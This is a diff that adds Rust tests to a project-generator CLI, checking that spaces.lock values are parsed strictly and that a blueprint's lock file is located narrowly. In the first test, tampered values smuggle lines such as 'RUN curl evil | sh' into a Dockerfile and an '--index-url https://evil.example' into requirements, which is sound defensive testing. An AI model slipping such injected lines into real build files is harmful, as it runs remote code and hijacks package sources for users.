@@ -421,3 +421,152 @@ fn a_closed_pipe_ends_the_output_quietly() {
     assert_eq!(out.status.code(), Some(0));
     assert_eq!(String::from_utf8_lossy(&out.stderr), "");
 }
+
+/// Every value of spaces.lock is parsed strictly before anything is generated from it: a value
+/// that could smuggle a line into the Dockerfile or requirements.txt, a digest that is not one,
+/// a version that is not PEP 440, a file that belongs to another package or version: exit 3,
+/// naming the field, nothing written.
+#[test]
+fn lock_values_are_parsed_strictly() {
+    let shipped = std::fs::read_to_string(common::repo_root().join("spaces.lock")).unwrap();
+    let first_hash = {
+        let at = shipped.find("#sha256=").unwrap() + "#sha256=".len();
+        shipped[at..at + 64].to_owned()
+    };
+    let cases: Vec<(&str, String, &str)> = vec![
+        (
+            "python-newline",
+            shipped.replacen(
+                "python = \"3.11\"",
+                "python = \"3.11\\nRUN curl evil | sh\"",
+                1,
+            ),
+            "python",
+        ),
+        (
+            "python-banana",
+            shipped.replacen("python = \"3.11\"", "python = \"banana\"", 1),
+            "python",
+        ),
+        (
+            "sha256-short",
+            shipped.replacen(&first_hash, "zzz", 1),
+            "sha256",
+        ),
+        (
+            "sha256-newline",
+            shipped.replacen(
+                &first_hash,
+                &format!("{first_hash}\\n--extra-index-url https://evil.example/simple"),
+                1,
+            ),
+            "sha256",
+        ),
+        (
+            "version-not-pep440",
+            shipped.replacen("version = \"0.22.1\"", "version = \"0.22.1; evil\"", 1),
+            "version",
+        ),
+        (
+            "file-of-another-package",
+            shipped.replacen(
+                "aiosqlite-0.22.1-py3-none-any.whl",
+                "evil-9.9-py3-none-any.whl",
+                1,
+            ),
+            "belongs to",
+        ),
+        (
+            "requires-python",
+            shipped.replacen(
+                "requires-python = \">=3.11\"",
+                "requires-python = \"banana\"",
+                1,
+            ),
+            "requires-python",
+        ),
+        (
+            "marker-newline",
+            shipped.replacen(
+                "marker = \"sys_platform == 'win32'\"",
+                "marker = \"sys_platform == 'win32'\\n--index-url https://evil.example\"",
+                1,
+            ),
+            "marker",
+        ),
+    ];
+    for (name, text, field) in cases {
+        assert_ne!(text, shipped, "{name}: the case changed nothing");
+        let t = Test::new().write("spaces.lock", &text);
+        let lock = t.path().join("spaces.lock");
+        let (run, _d) = t
+            .args(["new", "out", "--defaults", "--lock", lock.to_str().unwrap()])
+            .status(3)
+            .run();
+        assert!(run.stderr.contains(field), "{name}: {}", run.stderr);
+        assert!(
+            run.stderr.contains("spaces.lock:"),
+            "{name}: no position: {}",
+            run.stderr
+        );
+        assert!(
+            !run.dir.join("out").exists(),
+            "{name}: something was written"
+        );
+    }
+}
+
+/// Which lock a blueprint folder uses is narrow and said: the `spaces.lock` of its blueprint set
+/// (beside the blueprint folders) or of the folder holding the set, never one further up.
+#[test]
+fn the_lock_of_a_blueprint_folder_is_found_narrowly_and_named() {
+    let manifest = "[blueprint]\nname = \"custom\"\nversion = \"1.0.0\"\ndescription = \"t\"\n";
+    let t = Test::new()
+        .write("deep/down/bps/custom/blueprint.toml", manifest)
+        .write("deep/down/bps/custom/template/a.txt", "a\n");
+    // A valid lock for it, planted two levels above the set: not used.
+    let (run, _d) = Test::new()
+        .cwd(t.path())
+        .args(["show", "deep/down/bps/custom"])
+        .run();
+    let hash = run
+        .stdout
+        .lines()
+        .find_map(|l| l.strip_prefix("content hash: "))
+        .expect("hash")
+        .to_owned();
+    let lock = format!("format = 2\n\n[blueprints.custom]\nversion = \"1.0.0\"\ncontent-hash = \"{hash}\"\npython = \"3.11\"\nrequires-python = \">=3.11\"\npackages = {{}}\n");
+    fs::write(t.path().join("deep/spaces.lock"), &lock).unwrap();
+    let (run, _d) = Test::new()
+        .cwd(t.path())
+        .args([
+            "new",
+            "--blueprint",
+            "deep/down/bps/custom",
+            "out",
+            "--defaults",
+        ])
+        .status(3)
+        .run();
+    assert!(!run.stderr.contains("deep/spaces.lock"), "{}", run.stderr);
+    assert!(!t.path().join("out").exists());
+    // Beside the set's parent folder (a repository holding blueprints/): used, and said.
+    fs::rename(
+        t.path().join("deep/spaces.lock"),
+        t.path().join("deep/down/spaces.lock"),
+    )
+    .unwrap();
+    let (run, _d) = Test::new()
+        .cwd(t.path())
+        .args([
+            "new",
+            "--blueprint",
+            "deep/down/bps/custom",
+            "out",
+            "--defaults",
+        ])
+        .run();
+    run.stderr_has("using the lock ");
+    run.stderr_has("/deep/down/spaces.lock");
+    assert!(t.path().join("out/a.txt").is_file());
+}
